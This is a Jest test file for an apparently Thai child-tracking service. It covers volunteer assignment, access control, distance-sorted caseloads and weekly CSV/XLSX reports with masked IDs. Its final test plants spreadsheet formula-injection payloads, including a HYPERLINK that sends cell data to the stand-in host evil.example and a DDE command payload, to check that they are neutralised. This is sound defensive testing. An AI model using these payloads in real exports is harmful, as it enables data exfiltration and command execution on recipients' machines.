import ExcelJS from 'exceljs';
import type { Child } from '@panong/shared';
import { ADMIN, AREA_COORD, harness, SCHOOL_COORD, TEACHER, VOLUNTEER, type Harness } from '../helpers/harness';

let h: Harness;
beforeEach(async () => (h = await harness()));
afterEach(() => h.close());

const ofSchool = async (code: string) =>
  (await h.store.query<Child>('children', { where: [['schoolCode', '==', code]] })).map((c) => c.data);

describe('assignment', () => {
  it(
    'a school coordinator assigns children of their school in ' +
      'bulk; each change is an event; repeats change nothing',
    async () => {
      const kids = (await ofSchool('10010001')).filter((c) => !c.assigneeIds.includes(VOLUNTEER)).slice(0, 2);
      const body = { childIds: kids.map((k) => k.id), assigneeId: VOLUNTEER };
      expect((await h.api(SCHOOL_COORD).post('/assignments', body).expect(200)).body).toEqual({
        changed: 2,
        skipped: 0,
      });
      expect((await h.api(SCHOOL_COORD).post('/assignments', body).expect(200)).body).toEqual({
        changed: 0,
        skipped: 0,
      });
      for (const k of kids) {
        expect((await h.store.get<Child>(`children/${k.id}`))!.assigneeIds).toContain(VOLUNTEER);
        const events = await h.store.query(`children/${k.id}/events`);
        expect(events.map((e) => e.data)).toEqual([
          expect.objectContaining({
            type: 'assignment',
            by: SCHOOL_COORD,
            outcome: { action: 'assign', assignee: VOLUNTEER },
          }),
        ]);
      }
      const roster = await h.api(VOLUNTEER).get('/my-cases').expect(200);
      expect(roster.body.cases.map((c: { id: string }) => c.id)).toEqual(expect.arrayContaining(kids.map((k) => k.id)));
    },
  );

  it(
    'skips children of another school without naming them, ' + 'and refuses non-coordinators and outside workers',
    async () => {
      const other = (await ofSchool('40010001'))[0]!;
      const res = await h
        .api(SCHOOL_COORD)
        .post('/assignments', { childIds: [other.id], assigneeId: VOLUNTEER })
        .expect(200);
      expect(res.body).toEqual({ changed: 0, skipped: 1 });
      expect((await h.store.get<Child>(`children/${other.id}`))!.assigneeIds).toEqual([]);
      await h
        .api(TEACHER)
        .post('/assignments', { childIds: [other.id], assigneeId: VOLUNTEER })
        .expect(403);
      await h.store.batch([
        {
          kind: 'set',
          path: 'users/U0000000000000000000000000far01',
          data: {
            id: 'U0000000000000000000000000far01',
            role: 'volunteer',
            areaCode: '4001',
            schoolCode: '40010001',
            registeredAt: '',
          },
        },
      ]);
      const mine = (await ofSchool('10010001'))[0]!;
      await h
        .api(SCHOOL_COORD)
        .post('/assignments', { childIds: [mine.id], assigneeId: 'U0000000000000000000000000far01' })
        .expect(400);
      await h
        .api(AREA_COORD)
        .get('/schools/40010001/roster')
        .expect(200)
        .then((r) => expect(r.body.children).toEqual([]));
    },
  );

  it('lists my cases nearest first when I share where I am', async () => {
    const kids = (
      await h.store.query<Child>('children', { where: [['assigneeIds', 'array-contains', VOLUNTEER]] })
    ).map((c) => c.data);
    const [near, far] = [kids[0]!, kids[1]!];
    await h
      .api(VOLUNTEER)
      .post(`/children/${far.id}/checkins`, {
        idempotencyKey: 'k-far-0000000000001',
        location: { lat: 18.79, lng: 98.98 },
        outcome: { status: 'found' },
      })
      .expect(201);
    await h
      .api(VOLUNTEER)
      .post(`/children/${near.id}/checkins`, {
        idempotencyKey: 'k-near-000000000001',
        location: { lat: 13.7001, lng: 100.5001 },
        outcome: { status: 'found' },
      })
      .expect(201);
    const res = await h.api(VOLUNTEER).get('/my-cases?lat=13.70&lng=100.50').expect(200);
    expect(res.body.cases[0]).toMatchObject({ id: near.id, distanceKm: 0 });
    expect(res.body.cases.at(-1)).toMatchObject({ id: far.id });
    expect(res.body.cases.at(-1).distanceKm).toBeGreaterThan(500);
    expect(JSON.stringify(res.body)).not.toContain(near.nationalId);
  });
});

describe('weekly reports', () => {
  it(
    'Monday CSV for a school coordinator: Thai headers, ' + 'Buddhist-Era date, per-child rows with masked IDs',
    async () => {
      const res = await h.api(SCHOOL_COORD).get('/reports/weekly?kind=monday&format=csv&date=2026-11-23').expect(200);
      expect(res.headers['content-disposition']).toContain('panong-monday-2026-11-23.csv');
      const text = res.text;
      expect(text.charCodeAt(0)).toBe(0xfeff);
      expect(text).toContain('รายงานโรงเรียนถึง สพท.');
      expect(text).toContain('23 พ.ย. 2569');
      expect(text).toContain('เป้าหมายติดตาม,ยังไม่ได้ติดตาม');
      const kids = await ofSchool('10010001');
      for (const k of kids) {
        expect(text).toContain(k.firstName);
        expect(text).not.toContain(k.nationalId);
      }
      expect(text).not.toContain((await ofSchool('40010001'))[0]!.schoolName); // no row from another school
    },
  );

  it('teachers get numbers only, volunteers nothing, Friday is for area coordinators', async () => {
    const teacher = await h.api(TEACHER).get('/reports/weekly?kind=monday').expect(200);
    expect(teacher.text).not.toContain('รายชื่อ');
    expect(teacher.text).not.toContain('x-xxxx'); // no per-child rows
    await h.api(VOLUNTEER).get('/reports/weekly?kind=monday').expect(403);
    await h.api(SCHOOL_COORD).get('/reports/weekly?kind=friday').expect(403);
    await h.api(AREA_COORD).get('/reports/weekly?kind=nope').expect(400);
  });

  it('Friday XLSX for the area coordinator has a summary per school and the children of the area', async () => {
    const res = await h
      .api(AREA_COORD)
      .get('/reports/weekly?kind=friday&format=xlsx&date=2026-11-27')
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as never); // exceljs types name an older Buffer
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'สรุป',
      'แยกตามกลุ่มและรอบ',
      'ส่งต่อตามหน่วยงาน',
      'งานค้างรายผู้ปฏิบัติงาน',
      'รายชื่อ',
    ]);
    expect(wb.worksheets[0]!.rowCount).toBe(3 + 2); // title, header, area, two schools
    expect(wb.getWorksheet('รายชื่อ')!.rowCount).toBe(
      1 + (await h.store.count('children', [['areaCode', '==', '1001']])),
    );
  });

  it("admins get the national view per area (no child rows), and one area's child list on request", async () => {
    const res = await h.api(ADMIN).get('/reports/weekly?kind=friday').expect(200);
    expect(res.text).toContain('ทั้งประเทศ');
    expect(res.text).toContain('สพป.เชียงราย เขต 1');
    const someone = (await h.store.query<Child>('children', { limit: 1 }))[0]!.data;
    expect(res.text).not.toContain(someone.lastName);
    const area = await h.api(ADMIN).get(`/reports/weekly?kind=friday&area=${someone.areaCode}`).expect(200);
    expect(
      area.text.split('\n').filter((l) => l.includes(someone.areaName) || /^\d+,x-xxxx/.test(l)).length,
    ).toBeGreaterThan(1);
    expect((area.text.match(/x-xxxx-xxxx/g) ?? []).length).toBe(
      await h.store.count('children', [['areaCode', '==', someone.areaCode]]),
    );
  });

  it('neutralises spreadsheet formulas that an imported list carried (=, +, -, @)', async () => {
    const child = (await h.store.query<Child>('children', { where: [['areaCode', '==', '1001']], limit: 4 })).map(
      (c) => c.data,
    );
    const evil = ['=HYPERLINK("http://evil.example/"&C3,"คลิก")', "=cmd|' /C calc'!A0", '+SUM(1+1)', '@SUM(1)'];
    await h.store.batch(
      child.map((c, i) => ({ kind: 'update' as const, path: `children/${c.id}`, data: { firstName: evil[i]! } })),
    );
    const res = await h.api(AREA_COORD).get('/reports/weekly?kind=friday&format=csv').expect(200);
    for (const e of evil) {
      expect(res.text).not.toMatch(new RegExp(`(^|,)"?${e.slice(0, 4).replace(/[+|()]/g, '\\$&')}`, 'm'));
      expect(res.text).toContain(`'${e.slice(0, 4)}`);
    }
  });
});
